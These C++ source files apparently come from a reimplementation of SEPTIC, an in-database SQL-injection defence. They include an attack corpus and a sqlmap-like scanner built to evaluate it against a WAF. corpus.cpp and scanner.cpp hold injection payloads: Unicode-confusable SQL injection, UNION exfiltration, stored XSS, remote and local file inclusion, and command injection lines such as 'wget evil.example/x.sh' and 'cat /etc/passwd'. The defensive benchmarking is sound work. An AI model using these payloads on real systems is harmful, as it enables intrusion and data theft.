/// "dir/name.ext" -> "name" (the default external-ID app name).
std::string file_stem(const std::string& path);

}  // namespace septic::analysis

// Offline Query Model pre-training (the tentpole of septic-scan).
//
// For every statically discovered sink variant we synthesize a concrete
// benign statement from its template and push it through the *exact*
// runtime learning pipeline — external-ID tagging, server charset
// conversion, parse, item-stack build, data blanking — producing the same
// QueryModel the trainer would have learned from live traffic. The result
// is a QM store SEPTIC can boot from in prevention mode with zero runtime
// training.
#pragma once

#include <string>
#include <vector>

#include "analysis/model.h"
#include "septic/qm_store.h"

namespace septic::analysis {

/// One pre-trained model, for reporting.
struct EmittedModel {
  std::string site;    // handler-supplied site label
  std::string id;      // composed QM-store key (external#internal)
  std::string benign;  // synthesized statement (before ID tagging)
  std::string model;   // QueryModel::to_string() rendering
  bool fresh = false;  // true when it was not already in the store
};

struct EmitOptions {
  /// Mirror web::StackConfig::emit_external_ids (default on, as deployed).
  bool emit_external_ids = true;
};

/// Emit models for every sink in `scan` into `store`. Templates that fail
/// to parse become kTemplateParseError findings appended to the scan —
/// a handler whose query we cannot even synthesize benignly deserves a
/// human look, and silently skipping it would leave an unprotected ID.
std::vector<EmittedModel> emit_models(AppScan& scan, core::QmStore& store,
                                      const EmitOptions& opts = {});

}  // namespace septic::analysis

// sqlmap-like injection scanner (paper Section IV / Figure 7: "a browser
// ... and other tools to perform SQLI attacks, such as sqlmap"). Crawls an
// application's forms and probes every parameter with differential
// payloads:
//
//   error-based          a lone quote / broken syntax probe; a 500 "SQL
//                        error" response means the input reaches a query
//                        unneutralized;
//   boolean-differential an always-true vs always-false pair in numeric
//                        context ("1 OR 1=1" vs "1 AND 1=0"); differing
//                        bodies reveal the injection;
//   unicode-quote        the semantic-mismatch probe: U+02BC + "-- "
//                        (and the fullwidth-equals tautology), which only
//                        detonates inside the server — the class of
//                        payloads plain sqlmap misses and the demo adds.
//
// Probes are sent through the full stack, so a protected deployment shows
// them being blocked instead (the scan report records that too).
#pragma once

#include <string>
#include <vector>

#include "web/stack.h"

namespace septic::attacks {

struct ScanFinding {
  std::string path;
  web::Method method = web::Method::kGet;
  std::string param;
  std::string technique;  // "error-based" | "boolean-differential" |
                          // "unicode-quote" | "unicode-tautology"
  std::string payload;
  std::string evidence;   // what differed / which error came back
};

struct ScanReport {
  size_t forms_scanned = 0;
  size_t params_probed = 0;
  size_t requests_sent = 0;
  size_t probes_blocked = 0;  // probes stopped by a protection layer
  std::vector<ScanFinding> findings;

  bool vulnerable() const { return !findings.empty(); }
};

/// Probe every form parameter of the stack's application.
ScanReport scan_application(web::WebStack& stack);

}  // namespace septic::attacks

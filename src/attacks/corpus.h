// The attack battery of the demonstration (paper Section IV): injection
// attacks that target applications protected by sanitization functions —
// i.e. attacks exploiting the semantic mismatch — plus the stored-injection
// classes the plugins cover, and benign probes for false-positive counting.
//
// Each case records the full exploit chain: optional benign-looking setup
// requests (second-order attacks plant their payload first) and the attack
// request itself. A protection mechanism defeats the case if it blocks any
// request of the chain.
#pragma once

#include <string>
#include <vector>

#include "web/http.h"

namespace septic::attacks {

struct AttackCase {
  std::string id;        // "T1", "W3", ...
  std::string name;
  std::string category;  // "SQLI/2nd-order", "SQLI/mimicry", "XSS", ...
  std::string app;       // "tickets" or "waspmon"
  std::vector<web::Request> setup;  // executed before the attack request
  web::Request attack;
  /// True when a stock ModSecurity CRS deployment is expected to catch the
  /// chain (documentation/ground truth for the matrix bench's sanity
  /// checks; the bench measures the actual behaviour).
  bool waf_should_catch = false;
};

/// Semantic-mismatch SQLI attacks against the tickets application
/// (the paper's Section II-D examples, made concrete).
std::vector<AttackCase> tickets_attacks();

/// SQLI + stored-injection attacks against the WaspMon scenario app.
std::vector<AttackCase> waspmon_attacks();

/// All attacks, both apps.
std::vector<AttackCase> all_attacks();

/// Benign requests with "spicy but legitimate" inputs (apostrophes, angle
/// brackets, dashes) used to count false positives.
std::vector<web::Request> benign_probes(const std::string& app);

/// Deterministic pseudo-random benign form submissions for property tests:
/// values drawn from a safe alphabet, `count` requests round-robining the
/// app's forms.
std::vector<web::Request> random_benign_requests(const std::string& app,
                                                 uint64_t seed, size_t count);

// Payload building blocks (UTF-8 byte sequences for the confusables).
inline constexpr const char* kModifierApostrophe = "\xca\xbc";      // U+02BC
inline constexpr const char* kFullwidthEquals = "\xef\xbc\x9d";     // U+FF1D

}  // namespace septic::attacks

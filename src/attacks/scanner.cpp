#include "attacks/scanner.h"

#include "attacks/corpus.h"

namespace septic::attacks {

namespace {

using web::FormSpec;
using web::Request;
using web::Response;

Request form_request(const FormSpec& form, const std::string& param,
                     const std::string& value) {
  Request r;
  r.method = form.method;
  r.path = form.path;
  for (const auto& field : form.fields) {
    r.params[field.name] = field.name == param ? value : field.sample;
  }
  return r;
}

}  // namespace

ScanReport scan_application(web::WebStack& stack) {
  ScanReport report;
  const std::string prime = kModifierApostrophe;
  const std::string fw_eq = kFullwidthEquals;

  for (const FormSpec& form : stack.app_forms()) {
    ++report.forms_scanned;
    for (const auto& field : form.fields) {
      ++report.params_probed;

      auto send = [&](const std::string& value) -> Response {
        ++report.requests_sent;
        Response r = stack.handle(form_request(form, field.name, value));
        if (r.blocked()) ++report.probes_blocked;
        return r;
      };

      // Page-stability check (as sqlmap does): non-idempotent endpoints
      // answer differently to identical benign requests (fresh insert ids,
      // counters), which would make any differential technique meaningless.
      Response baseline = send(field.sample);
      Response baseline2 = send(field.sample);
      const bool stable =
          baseline.ok() && baseline2.ok() && baseline.body == baseline2.body;

      // --- error-based: naked quote and backslash-eaten quote ----------
      for (const std::string& payload :
           {std::string("'\""), field.sample + "\\"}) {
        Response r = send(payload);
        if (r.status == 500 &&
            r.body.find("SQL error") != std::string::npos) {
          report.findings.push_back({form.path, form.method, field.name,
                                     "error-based", payload, r.body});
          break;
        }
      }

      // --- boolean-differential (numeric context) ----------------------
      if (stable) {
        Response r_true = send(field.sample + " OR 1=1");
        Response r_false = send(field.sample + " AND 1=0");
        if (r_true.ok() && r_false.ok() && r_true.body != r_false.body &&
            r_true.body != baseline.body) {
          report.findings.push_back(
              {form.path, form.method, field.name, "boolean-differential",
               field.sample + " OR 1=1",
               "true/false payloads produced different responses"});
        }
      }

      // --- unicode-quote (error-based through the mismatch) -------------
      {
        // U+02BC alone: if it decodes to a quote inside the server, the
        // statement breaks and the app reports a SQL error.
        Response r = send(field.sample + prime);
        if (r.status == 500 &&
            r.body.find("SQL error") != std::string::npos) {
          report.findings.push_back({form.path, form.method, field.name,
                                     "unicode-quote", field.sample + prime,
                                     r.body});
        }
      }

      // --- unicode-tautology (boolean through the mismatch) -------------
      if (stable) {
        Response r_true =
            send(field.sample + prime + " OR 1" + fw_eq + "1-- ");
        Response r_false =
            send(field.sample + prime + " AND 1" + fw_eq + "0-- ");
        if (r_true.ok() && r_false.ok() && r_true.body != r_false.body) {
          report.findings.push_back(
              {form.path, form.method, field.name, "unicode-tautology",
               field.sample + prime + " OR 1" + fw_eq + "1-- ",
               "confusable-encoded true/false payloads diverged"});
        }
      }
    }
  }
  return report;
}

}  // namespace septic::attacks

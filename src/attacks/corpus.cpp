#include "attacks/corpus.h"

#include "web/apps/addressbook.h"
#include "web/apps/refbase.h"
#include "web/apps/tickets.h"
#include "web/apps/waspmon.h"
#include "web/apps/zerocms.h"

namespace septic::attacks {

using web::Request;

namespace {
const std::string kPrime = kModifierApostrophe;   // decodes to '
const std::string kFwEq = kFullwidthEquals;       // decodes to =
}  // namespace

std::vector<AttackCase> tickets_attacks() {
  std::vector<AttackCase> out;

  // T1 — the paper's Section II-D1 second-order attack: a Unicode
  // apostrophe survives mysql_real_escape_string at profile creation, gets
  // stored, and detonates when /my-ticket embeds the stored value.
  {
    AttackCase a;
    a.id = "T1";
    a.name = "second-order SQLI via U+02BC stored in profile";
    a.category = "SQLI/2nd-order";
    a.app = "tickets";
    a.setup = {Request::post(
        "/profile", {{"username", "mallory"},
                     {"fullname", "Mal Lory"},
                     {"defaultReserv", "ID34FG" + kPrime + "-- "},
                     {"creditCard", "0"}})};  // attacker doesn't know the cc
    a.attack = Request::get("/my-ticket", {{"username", "mallory"}});
    a.waf_should_catch = false;  // both requests look benign byte-wise
    out.push_back(std::move(a));
  }

  // T2 — first-order structural attack: the confusable quote closes the
  // string inside the server; "-- " swallows the creditCard check.
  {
    AttackCase a;
    a.id = "T2";
    a.name = "structural SQLI via U+02BC + comment";
    a.category = "SQLI/structural";
    a.app = "tickets";
    a.attack = Request::get(
        "/ticket", {{"reservID", "ID34FG" + kPrime + "-- "},
                    {"creditCard", "0"}});
    a.waf_should_catch = false;  // 942440 wants an ASCII quote before "--"
    out.push_back(std::move(a));
  }

  // T3 — the paper's syntax-mimicry attack (Figure 4), encoded so both the
  // quote and the equals sign only materialize inside the server.
  {
    AttackCase a;
    a.id = "T3";
    a.name = "mimicry SQLI: ' AND 1=1-- with confusable quote/equals";
    a.category = "SQLI/mimicry";
    a.app = "tickets";
    a.attack = Request::get(
        "/ticket", {{"reservID", "ID34FG" + kPrime + " AND 1" + kFwEq +
                                     "1-- "},
                    {"creditCard", "9999"}});
    a.waf_should_catch = false;  // tautology regex never sees ASCII "1=1"
    out.push_back(std::move(a));
  }

  // T4 — numeric-context tautology in plain ASCII: escaping can't help an
  // unquoted number, but the WAF's tautology rule fires.
  {
    AttackCase a;
    a.id = "T4";
    a.name = "numeric-context OR 1=1";
    a.category = "SQLI/structural";
    a.app = "tickets";
    a.attack = Request::get(
        "/ticket", {{"reservID", "ID34FG"}, {"creditCard", "0 OR 1=1"}});
    a.waf_should_catch = true;  // CRS 942130
    out.push_back(std::move(a));
  }

  // T5 — UNION exfiltration through the numeric context.
  {
    AttackCase a;
    a.id = "T5";
    a.name = "numeric-context UNION SELECT of profiles";
    a.category = "SQLI/union";
    a.app = "tickets";
    a.attack = Request::get(
        "/ticket",
        {{"reservID", "ZZZZZZ"},
         {"creditCard",
          "0 UNION SELECT id, username, fullname, defaultReserv, 1, 1 "
          "FROM profiles-- "}});
    a.waf_should_catch = true;  // CRS 942190
    out.push_back(std::move(a));
  }

  // T6 — same UNION wrapped in MySQL version-conditional comments: the WAF
  // CRS 942500 knows the /*! trick, but the engine executing the comment
  // body is the mismatch being demonstrated.
  {
    AttackCase a;
    a.id = "T6";
    a.name = "UNION inside /*!...*/ conditional comments";
    a.category = "SQLI/union";
    a.app = "tickets";
    a.attack = Request::get(
        "/ticket",
        {{"reservID", "ZZZZZZ"},
         {"creditCard",
          "0 /*!UNION*/ /*!SELECT*/ id, username, fullname, defaultReserv, "
          "1, 1 /*!FROM*/ profiles-- "}});
    a.waf_should_catch = true;  // CRS 942500 (inline-comment detection)
    out.push_back(std::move(a));
  }

  // T7 — time-based blind SQLI through the numeric context. The engine
  // evaluates SLEEP() (without the real delay), so the query executes
  // unprotected; the structure change is what SEPTIC flags.
  {
    AttackCase a;
    a.id = "T7";
    a.name = "blind SQLI via OR SLEEP(5)";
    a.category = "SQLI/blind";
    a.app = "tickets";
    a.attack = Request::get(
        "/ticket", {{"reservID", "ID34FG"}, {"creditCard", "0 OR SLEEP(5)"}});
    a.waf_should_catch = true;  // CRS 942160 (sleep/benchmark)
    out.push_back(std::move(a));
  }

  // T8 — exfiltration through an injected uncorrelated subquery: no UNION
  // keyword pair for the WAF to anchor on, but the item stack grows a
  // SUBQUERY arm.
  {
    AttackCase a;
    a.id = "T8";
    a.name = "subquery exfil: OR creditCard IN (SELECT ...)";
    a.category = "SQLI/subquery";
    a.app = "tickets";
    a.attack = Request::get(
        "/ticket",
        {{"reservID", "ID34FG"},
         {"creditCard",
          "0 OR creditCard IN (SELECT creditCard FROM profiles)-- "}});
    a.waf_should_catch = false;  // no "union select", no tautology literal
    out.push_back(std::move(a));
  }

  return out;
}

std::vector<AttackCase> waspmon_attacks() {
  std::vector<AttackCase> out;

  // W1 — history leak: numeric context with confusable equals.
  {
    AttackCase a;
    a.id = "W1";
    a.name = "history leak via device_id OR 1=1 (fullwidth =)";
    a.category = "SQLI/structural";
    a.app = "waspmon";
    a.attack = Request::get(
        "/device/history",
        {{"device_id", "1 OR 1" + kFwEq + "1"}, {"limit", "100"}});
    a.waf_should_catch = false;
    out.push_back(std::move(a));
  }

  // W2 — second-order tautology through the stored user note.
  {
    AttackCase a;
    a.id = "W2";
    a.name = "second-order tautology via stored note (U+02BC)";
    a.category = "SQLI/2nd-order";
    a.app = "waspmon";
    a.setup = {Request::post(
        "/user/register",
        {{"username", "eve"},
         {"fullname", "Eve Adversary"},
         {"note", "fridge" + kPrime + " OR 1" + kFwEq + "1-- "}})};
    a.attack = Request::get("/device/by-user", {{"username", "eve"}});
    a.waf_should_catch = false;
    out.push_back(std::move(a));
  }

  // W3 — the paper's Section II-D2 stored XSS example, verbatim.
  {
    AttackCase a;
    a.id = "W3";
    a.name = "stored XSS: <script>alert('Hello!');</script>";
    a.category = "XSS";
    a.app = "waspmon";
    a.attack = Request::post(
        "/user/register",
        {{"username", "hello"},
         {"fullname", "<script>alert('Hello!');</script>"},
         {"note", "greeter"}});
    a.waf_should_catch = true;  // CRS 941100
    out.push_back(std::move(a));
  }

  // W4 — stored XSS with an uncommon event handler the CRS-3.0 handler
  // enumeration misses.
  {
    AttackCase a;
    a.id = "W4";
    a.name = "stored XSS via ontoggle handler";
    a.category = "XSS";
    a.app = "waspmon";
    a.attack = Request::post(
        "/user/register",
        {{"username", "toggler"},
         {"fullname", "<details open ontoggle=alert(1)>x</details>"},
         {"note", "tenant"}});
    a.waf_should_catch = false;
    out.push_back(std::move(a));
  }

  // W5 — RFI through a PHP stream wrapper (no URL for the WAF to see).
  {
    AttackCase a;
    a.id = "W5";
    a.name = "RFI via php://input wrapper in device api_url";
    a.category = "RFI";
    a.app = "waspmon";
    a.attack = Request::post(
        "/device/add", {{"name", "rogue"},
                        {"type", "appliance"},
                        {"location", "attic"},
                        {"api_url", "php://input"}});
    a.waf_should_catch = false;
    out.push_back(std::move(a));
  }

  // W6 — classic RFI with an IP-literal URL (CRS 931100 territory).
  {
    AttackCase a;
    a.id = "W6";
    a.name = "RFI via http://IP/shell.php";
    a.category = "RFI";
    a.app = "waspmon";
    a.attack = Request::post(
        "/device/add", {{"name", "rogue2"},
                        {"type", "appliance"},
                        {"location", "attic"},
                        {"api_url", "http://203.0.113.7/shell.php?cmd=id"}});
    a.waf_should_catch = true;
    out.push_back(std::move(a));
  }

  // W7 — LFI path traversal (WAF catches plain "../").
  {
    AttackCase a;
    a.id = "W7";
    a.name = "LFI traversal to /etc/passwd";
    a.category = "LFI";
    a.app = "waspmon";
    a.attack = Request::post(
        "/device/add", {{"name", "rogue3"},
                        {"type", "appliance"},
                        {"location", "attic"},
                        {"api_url", "../../../../etc/passwd"}});
    a.waf_should_catch = true;  // CRS 930100
    out.push_back(std::move(a));
  }

  // W8 — OS command injection separated by a newline, which the
  // metacharacter class of CRS 932100 misses.
  {
    AttackCase a;
    a.id = "W8";
    a.name = "OSCI via newline-separated wget";
    a.category = "OSCI";
    a.app = "waspmon";
    a.attack = Request::post(
        "/user/register",
        {{"username", "pinger"},
         {"fullname", "Ping Er"},
         {"note", "127.0.0.1\nwget evil.example/x.sh"}});
    a.waf_should_catch = false;
    out.push_back(std::move(a));
  }

  // W9 — classic semicolon-separated command injection.
  {
    AttackCase a;
    a.id = "W9";
    a.name = "OSCI via '; cat /etc/passwd'";
    a.category = "OSCI";
    a.app = "waspmon";
    a.attack = Request::post(
        "/user/register",
        {{"username", "cheeky"},
         {"fullname", "Che Eky"},
         {"note", "8.8.8.8; cat /etc/passwd"}});
    a.waf_should_catch = true;  // CRS 932100
    out.push_back(std::move(a));
  }

  // W10 — PHP object injection payload with no PHP function names.
  {
    AttackCase a;
    a.id = "W10";
    a.name = "RCE via PHP serialized object";
    a.category = "RCE";
    a.app = "waspmon";
    a.attack = Request::post(
        "/user/register",
        {{"username", "serial"},
         {"fullname", "Seri Al"},
         {"note", "O:8:\"EvilUser\":1:{s:4:\"code\";s:8:\"touch /x\";}"}});
    a.waf_should_catch = false;
    out.push_back(std::move(a));
  }

  // W11 — eval/base64 payload (CRS 933150 catches the function call).
  {
    AttackCase a;
    a.id = "W11";
    a.name = "RCE via eval(base64_decode(...))";
    a.category = "RCE";
    a.app = "waspmon";
    a.attack = Request::post(
        "/user/register",
        {{"username", "evaler"},
         {"fullname", "Eva Ler"},
         {"note", "eval(base64_decode('cGhwaW5mbygp'))"}});
    a.waf_should_catch = true;
    out.push_back(std::move(a));
  }

  // W12 — stored XSS, entity-encoded to survive one rendering pass. The
  // WAF's htmlEntityDecode transformation and SEPTIC's plugin both decode,
  // so this one is caught twice over — included to pin the decode paths.
  {
    AttackCase a;
    a.id = "W12";
    a.name = "stored XSS via HTML entities (&#60;script&#62;)";
    a.category = "XSS";
    a.app = "waspmon";
    a.attack = Request::post(
        "/user/register",
        {{"username", "entity"},
         {"fullname", "&#60;script&#62;alert(1)&#60;/script&#62;"},
         {"note", "tenant"}});
    a.waf_should_catch = true;  // CRS 941100 after htmlEntityDecode
    out.push_back(std::move(a));
  }

  // W13 — double-percent-encoded traversal: the WAF decodes once and sees
  // "%2e%2e%2f" (no literal "../"); the application layer decodes again.
  {
    AttackCase a;
    a.id = "W13";
    a.name = "LFI via double-encoded %252e%252e%252f traversal";
    a.category = "LFI";
    a.app = "waspmon";
    a.attack = Request::post(
        "/device/add",
        {{"name", "rogue4"},
         {"type", "appliance"},
         {"location", "attic"},
         {"api_url",
          "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"}});
    a.waf_should_catch = false;  // one urlDecode layer is not enough
    out.push_back(std::move(a));
  }

  // W14 — command substitution $(...) form of OSCI.
  {
    AttackCase a;
    a.id = "W14";
    a.name = "OSCI via $(wget ...) substitution";
    a.category = "OSCI";
    a.app = "waspmon";
    a.attack = Request::post(
        "/user/register",
        {{"username", "subst"},
         {"fullname", "Sub St"},
         {"note", "$(wget http://203.0.113.9/x)"}});
    a.waf_should_catch = true;  // CRS 932100 covers $(wget
    out.push_back(std::move(a));
  }

  return out;
}

std::vector<AttackCase> all_attacks() {
  std::vector<AttackCase> out = tickets_attacks();
  for (auto& a : waspmon_attacks()) out.push_back(std::move(a));
  return out;
}

std::vector<Request> benign_probes(const std::string& app) {
  if (app == "tickets") {
    return {
        Request::get("/ticket",
                     {{"reservID", "ID34FG"}, {"creditCard", "1234"}}),
        // An apostrophe in honest data: correctly escaped, must pass.
        Request::post("/profile", {{"username", "obrien"},
                                   {"fullname", "Conan O'Brien"},
                                   {"defaultReserv", "KJ92MN"},
                                   {"creditCard", "9012"}}),
        Request::get("/my-ticket", {{"username", "alice"}}),
        Request::get("/flights"),
        // Dashes in data (not a comment at the DB: inside quotes).
        Request::post("/profile", {{"username", "doubledash"},
                                   {"fullname", "Smith--Jones"},
                                   {"defaultReserv", "QX81Zx"},
                                   {"creditCard", "5678"}}),
    };
  }
  return {
      Request::get("/devices"),
      Request::get("/device/search", {{"name", "AC/DC unit"}}),
      // '<' in honest data exercises the XSS plugin's quick->deep path.
      Request::post("/user/register", {{"username", "frugal"},
                                       {"fullname", "Fru Gal"},
                                       {"note", "budget <= 100 EUR"}}),
      Request::post("/reading/add", {{"device_id", "2"}, {"watts", "640.25"}}),
      Request::get("/device/history", {{"device_id", "3"}, {"limit", "7"}}),
      Request::post("/device/add", {{"name", "washer-dryer"},
                                    {"type", "appliance"},
                                    {"location", "bathroom"},
                                    {"api_url", "http://device.local/wd"}}),
      Request::get("/device/by-user", {{"username", "admin"}}),
  };
}

std::vector<Request> random_benign_requests(const std::string& app,
                                            uint64_t seed, size_t count) {
  // Local xorshift so results are deterministic across platforms.
  auto next = [state = seed ? seed : 0x9e3779b9ull]() mutable {
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return state;
  };
  static constexpr char kAlpha[] =
      "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ ._-";
  auto rand_word = [&](size_t len) {
    std::string w;
    for (size_t i = 0; i < len; ++i) {
      w += kAlpha[next() % (sizeof(kAlpha) - 1)];
    }
    return w;
  };
  auto rand_num = [&](int64_t max) { return std::to_string(next() % max); };

  std::unique_ptr<web::App> app_obj;
  if (app == "tickets") {
    app_obj = std::make_unique<web::apps::TicketsApp>();
  } else if (app == "waspmon") {
    app_obj = std::make_unique<web::apps::WaspMonApp>();
  } else if (app == "addressbook") {
    app_obj = std::make_unique<web::apps::AddressBookApp>();
  } else if (app == "refbase") {
    app_obj = std::make_unique<web::apps::RefbaseApp>();
  } else {
    app_obj = std::make_unique<web::apps::ZeroCmsApp>();
  }
  std::vector<web::FormSpec> forms = app_obj->forms();

  std::vector<Request> out;
  out.reserve(count);
  for (size_t i = 0; i < count && !forms.empty(); ++i) {
    const web::FormSpec& form = forms[i % forms.size()];
    Request r;
    r.method = form.method;
    r.path = form.path;
    for (const auto& field : form.fields) {
      // Numeric-looking samples stay numeric (the apps embed them in
      // numeric contexts); everything else becomes a random word.
      bool numeric = !field.sample.empty() &&
                     field.sample.find_first_not_of("0123456789.+") ==
                         std::string::npos;
      r.params[field.name] =
          numeric ? rand_num(500) : rand_word(4 + next() % 12);
    }
    out.push_back(std::move(r));
  }
  return out;
}

}  // namespace septic::attacks

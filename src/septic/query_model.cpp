#include "septic/query_model.h"

#include "common/string_util.h"

namespace septic::core {

QueryModel make_query_model(const sql::ItemStack& qs) {
  QueryModel qm;
  qm.kind = qs.kind;
  qm.nodes.reserve(qs.nodes.size());
  for (const auto& node : qs.nodes) {
    if (sql::is_data_item(node.type)) {
      qm.nodes.push_back({node.type, kBottom});
    } else {
      qm.nodes.push_back(node);
    }
  }
  return qm;
}

std::string QueryModel::to_string() const {
  std::string out;
  for (auto it = nodes.rbegin(); it != nodes.rend(); ++it) {
    out += sql::item_type_name(it->type);
    out += ' ';
    out += it->data;
    out += '\n';
  }
  return out;
}

std::string QueryModel::serialize() const {
  // kind;type,base64ish-escaped-data;type,data;...
  std::string out = std::to_string(static_cast<int>(kind));
  for (const auto& n : nodes) {
    out += ';';
    out += std::to_string(static_cast<int>(n.type));
    out += ',';
    // Escape ; , and newline in data.
    for (char c : n.data) {
      switch (c) {
        case ';': out += "\\s"; break;
        case ',': out += "\\c"; break;
        case '\n': out += "\\n"; break;
        case '\\': out += "\\\\"; break;
        default: out += c;
      }
    }
  }
  return out;
}

bool QueryModel::deserialize(std::string_view line, QueryModel& out) {
  out.nodes.clear();
  // Split on ';' — escaped as \s inside data, so raw ';' is a separator.
  std::vector<std::string> parts;
  {
    std::string cur;
    for (size_t i = 0; i < line.size(); ++i) {
      if (line[i] == '\\' && i + 1 < line.size()) {
        cur += line[i];
        cur += line[i + 1];
        ++i;
        continue;
      }
      if (line[i] == ';') {
        parts.push_back(std::move(cur));
        cur.clear();
        continue;
      }
      cur += line[i];
    }
    parts.push_back(std::move(cur));
  }
  if (parts.empty()) return false;
  if (!common::all_digits(parts[0])) return false;
  int kind_val = std::stoi(parts[0]);
  if (kind_val < 0 || kind_val > 5) return false;
  out.kind = static_cast<sql::StatementKind>(kind_val);
  for (size_t i = 1; i < parts.size(); ++i) {
    size_t comma = parts[i].find(',');
    if (comma == std::string::npos) return false;
    std::string_view type_s = std::string_view(parts[i]).substr(0, comma);
    if (!common::all_digits(type_s)) return false;
    int type_val = std::stoi(std::string(type_s));
    if (type_val < 0 ||
        type_val > static_cast<int>(sql::ItemType::kParamItem)) {
      return false;
    }
    std::string data;
    std::string_view body = std::string_view(parts[i]).substr(comma + 1);
    for (size_t j = 0; j < body.size(); ++j) {
      if (body[j] == '\\' && j + 1 < body.size()) {
        switch (body[j + 1]) {
          case 's': data += ';'; break;
          case 'c': data += ','; break;
          case 'n': data += '\n'; break;
          case '\\': data += '\\'; break;
          default: data += body[j + 1];
        }
        ++j;
      } else {
        data += body[j];
      }
    }
    out.nodes.push_back({static_cast<sql::ItemType>(type_val), std::move(data)});
  }
  return true;
}

}  // namespace septic::core

#include "septic/septic.h"

#include <chrono>
#include <thread>

#include "common/failpoint.h"
#include "engine/digest_cache.h"

namespace septic::core {

Septic::Septic() : Septic(Config{}) {}

Septic::Septic(Config config)
    : config_(std::make_shared<const Config>(config)),
      plugins_(make_default_plugins()) {}

template <typename Fn>
void Septic::update_config(Fn&& fn) {
  std::lock_guard lock(config_mu_);
  Config next = *config_.load(std::memory_order_acquire);
  uint64_t prev_epoch = next.epoch;
  fn(next);
  // The epoch is owned here, not by fn: every published snapshot gets a
  // fresh value, so cached verdicts tagged with the old epoch go stale on
  // any config change.
  next.epoch = prev_epoch + 1;
  config_.store(std::make_shared<const Config>(next),
                std::memory_order_release);
}

void Septic::set_mode(Mode mode) {
  update_config([mode](Config& c) { c.mode = mode; });
  Event e;
  e.kind = EventKind::kModeChanged;
  e.detail = std::string("mode set to ") + mode_name(mode);
  log_.record(std::move(e));
}

Mode Septic::mode() const { return config_snapshot()->mode; }

void Septic::set_sqli_detection(bool on) {
  update_config([on](Config& c) { c.detect_sqli = on; });
}

void Septic::set_stored_detection(bool on) {
  update_config([on](Config& c) { c.detect_stored = on; });
}

void Septic::set_incremental_learning(bool on) {
  update_config([on](Config& c) { c.incremental_learning = on; });
}

void Septic::set_log_processed_queries(bool on) {
  update_config([on](Config& c) { c.log_processed_queries = on; });
}

void Septic::set_strict_numeric_types(bool on) {
  update_config([on](Config& c) { c.strict_numeric_types = on; });
}

void Septic::set_fail_policy(FailPolicy policy) {
  update_config([policy](Config& c) { c.fail_policy = policy; });
}

void Septic::set_abort_txn_on_block(bool on) {
  update_config([on](Config& c) { c.abort_txn_on_block = on; });
}

Config Septic::config() const { return *config_snapshot(); }

engine::InterceptorGenerations Septic::generations() const {
  return {config_snapshot()->epoch, store_.generation()};
}

void Septic::attach_digest_cache(
    std::shared_ptr<const engine::QueryDigestCache> cache) {
  digest_cache_.store(std::move(cache), std::memory_order_release);
}

void Septic::on_query_replayed(const engine::QueryEvent& event,
                               const engine::InterceptDecision& decision,
                               const std::shared_ptr<const void>& payload) {
  (void)event;
  (void)decision;
  std::shared_ptr<const Config> cfg = config_snapshot();
  stats_.queries_seen.fetch_add(1, std::memory_order_relaxed);
  // Mirror the full pipeline's benign bookkeeping. The replayed verdict is
  // current (the engine checked generations()), so the mode now equals the
  // mode the verdict was computed under; training-mode replays have
  // nothing further to do (the model already exists — re-adding would
  // dedup to a no-op).
  if (cfg->mode != Mode::kTraining && cfg->log_processed_queries) {
    Event e;
    e.kind = EventKind::kQueryProcessed;
    if (const auto* vp = static_cast<const VerdictPayload*>(payload.get())) {
      e.query_id = vp->composed_id;
    }
    log_.record(std::move(e));
  }
}

engine::InterceptDecision Septic::on_prepared_exec(
    const engine::QueryEvent& event,
    const engine::InterceptDecision& decision,
    const std::shared_ptr<const void>& payload,
    const std::vector<sql::Value>& params) {
  // Per-query accounting, exactly like a digest-cache replay: the
  // structural verdict was computed at PREPARE and the engine checked it
  // is generation-current, so no model lookup or QS/QM comparison runs.
  on_query_replayed(event, decision, payload);

  std::shared_ptr<const Config> cfg = config_snapshot();
  // Training mode executes everything; and with stored detection off the
  // bound values are plain data by configuration.
  if (cfg->mode == Mode::kTraining || !cfg->detect_stored) {
    return engine::InterceptDecision::proceed();
  }

  std::string query_id;
  if (const auto* vp = static_cast<const VerdictPayload*>(payload.get())) {
    query_id = vp->composed_id;
  }

  // Same fail-policy boundary as on_query: a plugin crash must not take
  // the engine down, and must not silently wave the values through under
  // fail-closed.
  try {
    SEPTIC_FAILPOINT("septic.plugin.throw");
    StoredVerdict sv =
        detect_stored_params(sql::statement_kind(event.query.statement),
                             params, plugins_);
    if (!sv.attack) return engine::InterceptDecision::proceed();

    Event e;
    e.kind = EventKind::kStoredDetected;
    e.query = event.query.text;
    e.query_id = query_id;
    e.attack_type = sv.plugin;
    e.detail = sv.detail + " (bound parameter)";
    log_.record(std::move(e));
    stats_.stored_detected.fetch_add(1, std::memory_order_relaxed);

    if (cfg->mode != Mode::kPrevention) {
      // Detection mode: attack logged above, the execution proceeds.
      return engine::InterceptDecision::proceed();
    }
    Event d;
    d.kind = EventKind::kQueryDropped;
    d.query = event.query.text;
    d.query_id = query_id;
    d.attack_type = sv.plugin;
    log_.record(std::move(d));
    stats_.dropped.fetch_add(1, std::memory_order_relaxed);
    if (event.in_transaction) {
      stats_.txn_blocked_stmts.fetch_add(1, std::memory_order_relaxed);
    }
    engine::InterceptDecision out = engine::InterceptDecision::reject(
        "SEPTIC: " + sv.plugin + " attack detected in bound parameter; "
        "execution dropped");
    out.abort_txn = cfg->abort_txn_on_block;
    return out;
  } catch (const std::exception& ex) {
    stats_.septic_internal_errors.fetch_add(1, std::memory_order_relaxed);
    try {
      Event e;
      e.kind = EventKind::kInternalError;
      e.query = event.query.text;
      e.detail = std::string(ex.what()) +
                 " (policy: " + fail_policy_name(cfg->fail_policy) + ")";
      log_.record(std::move(e));
    } catch (...) {
    }
    if (cfg->fail_policy == FailPolicy::kFailOpen) {
      return engine::InterceptDecision::proceed();
    }
    return engine::InterceptDecision::reject(
        "SEPTIC: internal error; execution dropped (fail-closed)");
  }
}

void Septic::save_models(const std::string& path) const {
  store_.save_to_file(path);
}

QmLoadReport Septic::load_models(const std::string& path) {
  QmLoadReport report = store_.load_from_file(path);
  Event e;
  e.kind = EventKind::kModelLoaded;
  e.detail = std::to_string(store_.model_count()) + " models loaded from " +
             path;
  if (!report.clean()) {
    e.detail += " (salvage: " + std::to_string(report.skipped) +
                " corrupt record(s) skipped: " + report.detail + ")";
  }
  log_.record(std::move(e));
  return report;
}

bool Septic::approve_model(uint64_t review_id) {
  auto entry = review_.take(review_id);
  if (!entry) return false;
  Event e;
  e.kind = EventKind::kModelApproved;
